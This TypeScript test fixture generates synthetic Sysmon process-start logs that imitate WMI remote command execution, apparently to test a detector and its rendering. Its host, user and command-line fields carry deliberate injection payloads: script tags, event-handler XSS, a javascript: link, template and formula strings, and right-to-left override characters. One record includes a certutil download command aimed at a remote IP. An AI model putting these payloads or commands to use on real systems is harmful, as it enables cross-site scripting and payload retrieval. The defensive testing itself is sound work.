/** One process start as Sysmon tells it, in the shape winlogbeat sends it before any pipeline. */
interface Start {
  readonly at: Date;
  readonly recordId: number;
  readonly host: string;
  readonly user: string;
  readonly pid: number;
  readonly image: string;
  readonly commandLine: string;
  readonly parentPid: number;
  readonly parentImage: string;
  readonly parentCommandLine: string;
}

const entityId = (pid: number): string => `{7ab10001-0000-0000-0000-${pid.toString(16).padStart(12, "0")}}`;

function sysmonStart(start: Start): object {
  const at = start.at.toISOString();
  return {
    "@timestamp": at,
    event: { code: "1", kind: "event", provider: "Microsoft-Windows-Sysmon" },
    host: { name: start.host },
    winlog: {
      channel: "Microsoft-Windows-Sysmon/Operational",
      computer_name: start.host,
      event_id: "1",
      provider_name: "Microsoft-Windows-Sysmon",
      record_id: start.recordId,
      user: { identifier: "S-1-5-18" },
      event_data: {
        UtcTime: at.replace("T", " ").replace("Z", ""),
        ProcessGuid: entityId(start.pid),
        ProcessId: String(start.pid),
        Image: start.image,
        CommandLine: start.commandLine,
        User: start.user,
        LogonId: "0x7be41",
        IntegrityLevel: "High",
        ParentProcessGuid: entityId(start.parentPid),
        ParentProcessId: String(start.parentPid),
        ParentImage: start.parentImage,
        ParentCommandLine: start.parentCommandLine,
      },
    },
  };
}

const cmd = "C:\\Windows\\System32\\cmd.exe";
const wmi = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";

/** A host whose every name an attacker chose. */
export const hostileHost = 'LAB-7<img src=x onerror="alert(document.domain)">';
export const hostileUser = "LAB\\<svg onload=alert(2)>[approved](javascript:alert(3))";
/** Markup, a link, a template, a formula; a name that runs backwards (U+202E) and a character nobody sees (U+200B). */
export const hostileCommand =
  'echo </script><script>alert(4)</script><iframe srcdoc="<script>alert(5)</script>"></iframe> ' +
  "![p](https://198.51.100.7/p.png) {{7*7}} =HYPERLINK(0) \u202Efdp.exe\u200B";
export const hostileCommandLine = `${cmd} /Q /c ${hostileCommand} 1> \\\\127.0.0.1\\ADMIN$\\__1790000000.5 2>&1`;

/** Four records and a line that is none: two captured commands, a child of the second, a start of no interest. */
export function captureFile(now: Date): string {
  const start = (secondsAgo: number, changes: Partial<Start>): string =>
    JSON.stringify(
      sysmonStart({
        at: new Date(now.getTime() - secondsAgo * 1000),
        recordId: 1000 - secondsAgo,
        host: hostileHost,
        user: hostileUser,
        pid: 7000,
        image: cmd,
        commandLine: hostileCommandLine,
        parentPid: 640,
        parentImage: wmi,
        parentCommandLine: "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        ...changes,
      }),
    );
  const quiet = "1> \\\\127.0.0.1\\ADMIN$\\__1790000000.5 2>&1";
  return [
    start(90, { pid: 6990, commandLine: `${cmd} /Q /c hostname ${quiet}` }),
    start(60, {}),
    '{"@timestamp": "2026-01-01T00:00:00Z", "winlog": {<b onmouseover=alert(6)>half a record',
    start(59, {
      pid: 7004,
      image: "C:\\Windows\\System32\\certutil.exe",
      commandLine: "certutil.exe -urlcache -f http://198.51.100.7/<i>a</i>",
      parentPid: 7000,
      parentImage: cmd,
      parentCommandLine: hostileCommandLine,
    }),
    start(30, { pid: 7100, image: "C:\\Windows\\System32\\notepad.exe", commandLine: "notepad.exe", parentImage: cmd }),
    "",
  ].join("\n");
}

/** A host on which a capture happened that no rule sees: the collector left XML entities in the command line. */
export const hiddenHost = "LAB-9";

/** One record: a captured command, escaped on its way. */
export function hiddenCapture(now: Date): string {
  const start: Start = {
    at: new Date(now.getTime() - 60_000),
    recordId: 4242,
    host: hiddenHost,
    user: "LAB\\tester",
    pid: 7300,
    image: cmd,
    commandLine: `${cmd} /Q /c whoami 1&gt; \\\\127.0.0.1\\ADMIN$\\__1790000000.5 2&gt;&amp;1`,
    parentPid: 640,
    parentImage: wmi,
    parentCommandLine: "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
  };
  return `${JSON.stringify(sysmonStart(start))}\n`;
}
